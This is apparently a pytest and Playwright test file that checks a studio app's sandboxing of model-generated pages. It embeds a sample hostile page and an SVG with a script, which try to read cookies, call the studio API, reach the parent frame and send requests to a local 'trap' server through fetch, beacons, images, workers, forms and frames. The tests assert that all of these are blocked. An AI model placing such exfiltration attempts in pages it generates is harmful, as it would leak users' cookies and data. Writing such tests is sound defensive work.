"""What a page that a model made can do in a real browser: run by itself, and reach nothing of the studio or beyond."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from studio import jobs
from studio.jobs import JobEnd, JobView
from tests.web.seeding import brief
from tests.web.served import Served, served

ATTACKS = """<!doctype html><title>made</title><body><script type="module">
const said = {};
const tried = async (name, work) => {
  try { said[name] = await work(); } catch (error) { said[name] = "refused"; }
};
const image = address => new Promise((done, fail) => {
  const found = new Image(); found.onload = () => done("loaded"); found.onerror = () => fail(); found.src = address;
});
await tried("cookie", () => document.cookie);
await tried("own", async () => (await fetch("own.json")).json());
await tried("module", async () => (await import("./own.js")).word);
await tried("api", async () => (await fetch("STUDIO/api/v1/jobs")).status);
const blind = {method: "POST", mode: "no-cors", body: "{}"};
await tried("post", async () => (await fetch("STUDIO/api/v1/jobs", blind)).type);
await tried("parent", () => parent === window ? "refused" : parent.document.title);
await tried("trap", async () => (await fetch("TRAP/fetch", {mode: "no-cors"})).type);
await tried("picture", () => image("TRAP/picture"));
await tried("beacon", () => navigator.sendBeacon("TRAP/beacon", "x") ? "sent" : "refused");
await tried("worker", () => { new Worker("TRAP/worker.js"); return "started"; });
const form = document.createElement("form");
form.action = "TRAP/form"; form.method = "post"; document.body.append(form);
await tried("form", () => { form.submit(); return "tried"; });
const inner = document.createElement("iframe");
await tried("frame", () => { inner.src = "TRAP/frame"; document.body.append(inner); });
await tried("top", () => { if (top !== window) top.location = "TRAP/top"; });
const out = document.createElement("pre");
out.id = "said"; out.textContent = JSON.stringify(said); document.body.append(out);
</script>"""


class Trap(ThreadingHTTPServer):
    """A foreign server that remembers what came."""

    def __init__(self) -> None:
        self.came: list[str] = []
        self.page = b"<title>trap</title>"
        trap = self

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.came.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(trap.page)

            do_POST = do_GET  # noqa: N815

            def log_message(self, format: str, *arguments: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Answer)
        self.url = f"http://127.0.0.1:{self.server_port}"


@pytest.fixture
def trap() -> Iterator[Trap]:
    with Trap() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    with chromium.new_context() as context:
        yield context.new_page()


def made(studio: Served, trap: Trap) -> JobView:
    """A job whose page tries all it can."""
    _, claim = studio.seed.running(brief("Attacks"))
    text = ATTACKS.replace("STUDIO", studio.url).replace("TRAP", trap.url)
    script = f'<script>fetch("{trap.url}/svg")</script>'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{script}<rect width="9" height="9"/></svg>'
    contents = {"index.html": text, "own.json": '"mine"', "own.js": 'export const word = "mine"', "evil.svg": svg}
    files = [studio.seed.stored(name, content.encode(), "text/html") for name, content in contents.items()]
    return jobs.finish(studio.db, claim, JobEnd("rejected", "checks_failed", files=files))


FRAME = """(address) => {
  const frame = document.createElement("iframe");
  frame.setAttribute("sandbox", "allow-scripts allow-same-origin"); frame.src = address; document.body.append(frame);
}"""
SAID = {
    "cookie": "",
    "own": "mine",
    "module": "mine",
    "api": "refused",
    "post": "refused",
    "parent": "refused",
    "trap": "refused",
    "picture": "refused",
    "worker": "refused",
}


@pytest.mark.browser
def test_a_made_page_runs_in_its_frame_and_reaches_nothing_else(site: Served, trap: Trap, page: Page) -> None:
    job = made(site, trap)
    before = jobs.counts(site.db)
    page.goto(f"{site.url}/new/poster")
    assert page.context.cookies(), "the studio has set its cookie"
    page.evaluate(FRAME, f"http://{job.content_token}.localhost:{site.port}/index.html")
    said = page.frame_locator("iframe").locator("#said").text_content()
    assert said is not None
    found = json.loads(said)
    assert {name: found[name] for name in SAID} == SAID
    assert page.url == f"{site.url}/new/poster"
    assert trap.came == []
    assert jobs.counts(site.db) == before


@pytest.mark.browser
def test_opened_by_itself_it_has_no_more(site: Served, trap: Trap, page: Page) -> None:
    job = made(site, trap)
    page.goto(f"{site.url}/new/poster")
    origin = f"http://{job.content_token}.localhost:{site.port}"
    page.goto(f"{origin}/evil.svg")
    assert page.locator("rect").count() == 1
    assert trap.came == []
    page.goto(f"{origin}/index.html")
    said = page.locator("#said").text_content()
    assert said is not None
    found = json.loads(said)
    assert {name: found[name] for name in SAID} == SAID
    assert trap.came == []


@pytest.mark.browser
def test_no_foreign_page_may_frame_the_studio_or_its_content(site: Served, trap: Trap, page: Page) -> None:
    job = made(site, trap)
    framed = [f"http://{job.content_token}.localhost:{site.port}/index.html", f"{site.url}/gallery"]
    trap.page = b"<title>trap</title>" + b"".join(b'<iframe src="%s"></iframe>' % item.encode() for item in framed)
    failed: list[str] = []
    page.on("console", lambda message: failed.append(message.text))
    page.goto(trap.url)
    page.wait_for_load_state("networkidle")
    assert sum("frame-ancestors" in text for text in failed) == 2, failed
    for frame in page.frames[1:]:
        assert "made" not in frame.content()


@pytest.mark.browser
def test_without_a_second_origin_a_made_page_has_none_at_all(tmp_path: Path, trap: Trap, page: Page) -> None:
    with served(tmp_path, content_origin="self") as studio:
        job = made(studio, trap)
        page.goto(f"{studio.url}/new/poster")
        page.evaluate(FRAME, f"{studio.url}/content/{job.content_token}/index.html")
        said = page.frame_locator("iframe").locator("#said").text_content()
        assert said is not None
        found = json.loads(said)
        assert {name: found[name] for name in SAID} == {**SAID, "cookie": "refused"}
        assert trap.came == []
